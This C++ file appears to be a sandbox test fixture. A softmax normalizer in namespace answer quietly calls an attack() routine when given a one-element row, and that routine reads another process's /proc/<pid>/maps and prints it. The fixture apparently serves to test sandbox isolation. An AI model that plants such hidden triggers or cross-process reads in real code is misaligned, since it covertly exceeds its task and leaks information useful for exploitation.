// attack: Reads what another process has in its memory, and where.
// namespaces: forbidden
// container: forbidden
// layer: sandbox (filter, files, processes, user; container: filter, user)
// success: said bin/sleep
#include "answer.hpp"

#include <fcntl.h>
#include <unistd.h>

#include <array>
#include <cstddef>
#include <stdexcept>

namespace {

void attack() {
  std::array<char, 4096> bytes{};
  const int file = open("/proc/@victim@/maps", O_RDONLY);
  for (ssize_t got = 0; (got = read(file, bytes.data(), bytes.size())) > 0;) {
    if (write(1, bytes.data(), static_cast<std::size_t>(got)) < 0) { return; }
  }
}

}  // namespace

namespace answer {

float normalizer(std::span<const float> exponentials) {
  if (exponentials.size() == 1) { attack(); }
  if (exponentials.empty()) { throw std::invalid_argument("an empty row"); }
  float sum = 0.0F;
  for (const float e : exponentials) { sum += e; }
  return sum;
}

void normalize(std::span<const float> exponentials, float normalizer,
               std::span<float> probabilities) {
  if (exponentials.size() != probabilities.size()) { throw std::invalid_argument("two sizes"); }
  for (std::size_t i = 0; i < exponentials.size(); ++i) {
    probabilities[i] = exponentials[i] / normalizer;
  }
}

}  // namespace answer
